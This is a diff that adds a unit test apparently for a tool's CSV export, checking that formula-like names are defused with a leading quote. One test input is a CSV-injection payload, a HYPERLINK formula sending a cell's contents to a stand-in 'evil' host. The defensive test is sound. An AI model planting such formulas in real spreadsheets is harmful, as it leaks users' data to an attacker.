@@ -50,6 +50,35 @@ def test_csv_has_every_point_as_it_was(filled):
     }
 
 
+DEFUSED = {
+    **{text: f"'{text}" for text in ("=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠A1")},  # noqa: RUF001
+    '=HYPERLINK("http://evil/?"&A1,"x"),y': '\'=HYPERLINK("http://evil/?"&A1,"x"),y',
+    **{f"{blank}=1": f"{blank!r}=1".replace("'", "") for blank in ("\t", "\r", "\n", "x\r", "x\n")},
+    **{text: text for text in ("loss", "a=b", "grad-norm")},
+}
+
+
+def test_no_text_in_a_csv_file_is_a_formula_and_every_number_stays_one(database):
+    names = list(DEFUSED)
+    points = [
+        {"task_id": 1, "attempt": 1, "name": name, "step": number, "epoch": None, "value": -0.5, "flag": None}
+        for number, name in enumerate(names)
+    ]
+    points[-1] |= {"value": None, "flag": "-inf"}
+    with database.writing() as connection:
+        task = Task(id=1, title="=1+1", created_at=NOW, last_updated=NOW)
+        connection.execute(insert(TASKS).values(row_from_task(task)))
+        connection.execute(insert(METRIC_POINTS), [{**point, "created_at": NOW} for point in points])
+        connection.commit()
+    text = "".join(export_task(database, 1, "csv"))
+    rows = {int(row["step"]): row for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert [rows[number]["name"] for number in range(len(names))] == list(DEFUSED.values())
+    assert {row["value"] for row in rows.values()} == {"-0.5", ""}
+    assert rows[len(names) - 1]["flag"] == "-inf"
+    whole = json.loads("".join(export_task(database, 1, "json")))
+    assert {point["name"] for point in whole["points"]} == set(names)
+
+
 def test_json_has_the_task_its_history_and_every_point(filled):
     whole = json.loads("".join(export_task(filled, 1, "json")))
     assert (whole["task"]["title"], whole["task"]["createdAt"]) == ('a "b", c', "2026-01-31T12:00:00Z")
